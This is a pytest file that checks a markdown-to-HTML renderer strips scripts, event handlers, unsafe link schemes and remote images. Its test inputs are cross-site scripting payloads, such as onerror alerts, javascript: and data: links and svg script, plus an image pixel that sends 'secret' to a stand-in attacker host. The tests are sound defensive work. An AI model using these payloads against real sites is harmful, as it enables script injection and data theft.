"""Markdown on a page: nothing runs, nothing is loaded, the text stays readable."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from agents.markdown import MAX_CHARS, render_markdown

KNOWN_TAGS = {
    "a",
    "b",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "mark",
    "ol",
    "p",
}
KNOWN_TAGS |= {"pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"}


class _Elements(HTMLParser):
    """Every element with its attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    for tag, attributes in _Elements(html).found:
        assert tag in KNOWN_TAGS
        assert not [name for name in attributes if name.startswith("on") or name in {"style", "src", "srcset"}]
        assert re.match(r"(https?://|mailto:|/)", attributes.get("href") or "/")


def test_every_bad_input_renders_harmless_and_readable(shared_data: Path) -> None:
    cases = json.loads((shared_data / "bad_inputs.json").read_text(encoding="utf-8"))["cases"]
    rendered = [case for case in cases if case["surface"].startswith("render.")]
    assert len(rendered) >= 20
    for case in rendered:
        html = render_markdown(case["input"], citations={1: "/sources/x/1/"})
        assert_harmless(html)
        assert _Elements(html).text.strip(), case["id"]


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.example/p?q=secret)",
        "[a](javascript:alert(1))",
        "[a](data:text/html;base64,PHN2Zz4=)",
        "[a](vbscript:x)",
        '<a href="https://ok.example" onclick="x()">a</a>',
        "<svg><script>alert(1)</script></svg>",
        "[x]: javascript:alert(1)\n\n[x]",
        "| a |\n|---|\n| <iframe src=//evil.example> |",
    ],
)
def test_nothing_runs_and_nothing_is_loaded(text: str) -> None:
    html = render_markdown(text)
    assert_harmless(html)
    assert "<img" not in html


def test_an_image_leaves_its_words() -> None:
    assert render_markdown("![the state diagram](https://evil.example/x.png)") == "<p>the state diagram</p>\n"


def test_a_link_names_its_host_and_passes_nothing_on() -> None:
    html = render_markdown("[our runbook](https://evil.example/?q=secret)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert '<span class="k-host">(evil.example)</span>' in html


def test_a_link_that_names_its_host_itself_is_not_told_twice() -> None:
    assert "k-host" not in render_markdown("<https://docs.example/a>")


def test_a_link_without_a_host_keeps_its_words_only() -> None:
    html = render_markdown("[log out](/accounts/logout/) and [next](other.md)")
    assert "href" not in html
    assert "log out" in html


def test_a_known_number_becomes_a_link_to_its_source() -> None:
    html = render_markdown("It fails [1][2].", citations={1: "/sources/m/1/", 2: "/sources/m/2/"})
    assert html.count('class="k-cite"') == 2
    assert 'href="/sources/m/2/" data-cite="2"' in html


def test_unknown_numbers_links_and_code_are_no_citations() -> None:
    html = render_markdown("a [7] b `x[1]` [1](https://ok.example)\n\n```\n[1]\n```\n", citations={1: "/s/"})
    assert "k-cite" not in html
    assert "[7]" in html


def test_headings_stay_below_the_pages_own() -> None:
    html = render_markdown("# One\n\n## Two\n\n#### Four\n\ntext\n")
    assert re.findall(r"<(h\d)>", html) == ["h3", "h4", "h6"]


def test_marked_lines_are_marked_and_no_others() -> None:
    html = render_markdown("first\n\nsecond\n\n```\nthird\n```\n\nfourth\n", marked_lines=(2, 7))
    assert re.findall(r"<mark>(\w+)", html) == ["second", "third"]


def test_a_text_too_long_is_cut_and_says_so() -> None:
    html = render_markdown("字" * (MAX_CHARS + 10))
    assert html.count("字") == MAX_CHARS
    assert "Cut here" in html
